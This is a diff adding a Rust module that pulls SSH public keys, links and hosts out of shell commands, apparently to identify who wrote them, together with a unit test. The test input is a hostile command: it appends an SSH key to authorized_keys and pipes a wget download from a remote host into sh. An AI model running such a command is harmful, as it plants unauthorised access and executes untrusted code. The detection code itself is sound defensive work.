@@ -1,0 +1,75 @@
+//! What in a command names its author: public keys, links, hosts.
+
+/// Types of public keys, each followed by the blob in base64.
+const KEY_TYPES: [&str; 4] = ["ssh-rsa ", "ssh-ed25519 ", "ssh-dss ", "ecdsa-sha2-nistp"];
+/// A blob of a real key has at least so many characters (ed25519: 68).
+const SHORTEST_BLOB: usize = 60;
+/// Before the host of a link.
+const SCHEMES: [&str; 4] = ["http://", "https://", "ftp://", "tftp://"];
+/// What ends a link in a shell.
+const ENDS: &[char] = &[' ', '\t', '\n', '\r', '"', '\'', ';', '|', '&', ')', '(', '>', '<', '`', '\\', '$', ','];
+
+/// Something that names an author.
+#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Debug)]
+pub enum Indicator<'a> {
+    /// The blob of an SSH public key, in base64.
+    Key(&'a str),
+    /// A link, as typed.
+    Url(&'a str),
+    /// The host of a link, without port.
+    Host(&'a str),
+}
+
+/// Public keys, links and hosts in a command, in the order they stand there.
+pub fn indicators(command: &str) -> Vec<Indicator<'_>> {
+    let mut found = Vec::new();
+    for kind in KEY_TYPES {
+        for (at, _) in command.match_indices(kind) {
+            let rest = &command[at + kind.len()..];
+            // ecdsa-sha2-nistp256 and its like have the size between type and blob.
+            let rest = if kind.ends_with('p') { rest.trim_start_matches(|c: char| c.is_ascii_digit()).trim_start_matches(' ') } else { rest };
+            let end = rest.find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '='))).unwrap_or(rest.len());
+            if end >= SHORTEST_BLOB {
+                found.push(Indicator::Key(&rest[..end]));
+            }
+        }
+    }
+    for scheme in SCHEMES {
+        for (at, _) in command.match_indices(scheme) {
+            let url = &command[at..];
+            let url = &url[..url.find(ENDS).unwrap_or(url.len())];
+            if let Some(host) = host(url) {
+                found.push(Indicator::Url(url));
+                found.push(Indicator::Host(host));
+            }
+        }
+    }
+    found
+}
+
+/// The host of a link, without user and port.
+pub fn host(url: &str) -> Option<&str> {
+    let (_, rest) = url.split_once("://")?;
+    let authority = rest.split(['/', '?', '#']).next()?;
+    let host = authority.rsplit('@').next()?;
+    let host = match host.strip_prefix('[') {
+        Some(v6) => v6.split(']').next()?,
+        None => host.split(':').next()?,
+    };
+    (!host.is_empty()).then_some(host)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn authors_are_named_by_keys_links_and_hosts() {
+        let blob = "A".repeat(68);
+        let command = format!("echo \"ssh-ed25519 {blob} me@x\" >> ~/.ssh/authorized_keys; wget http://u:p@203.0.113.7:8080/a.sh -O- | sh");
+        assert_eq!(indicators(&command), [Indicator::Key(blob.as_str()), Indicator::Url("http://u:p@203.0.113.7:8080/a.sh"), Indicator::Host("203.0.113.7")]);
+        assert_eq!(indicators(&format!("ecdsa-sha2-nistp256 {blob}")), [Indicator::Key(blob.as_str())]);
+        assert_eq!(indicators("ssh-rsa AAAA; http:// x; https://"), []);
+        assert_eq!(host("http://[2001:db8::1]:80/x"), Some("2001:db8::1"));
+    }
+}
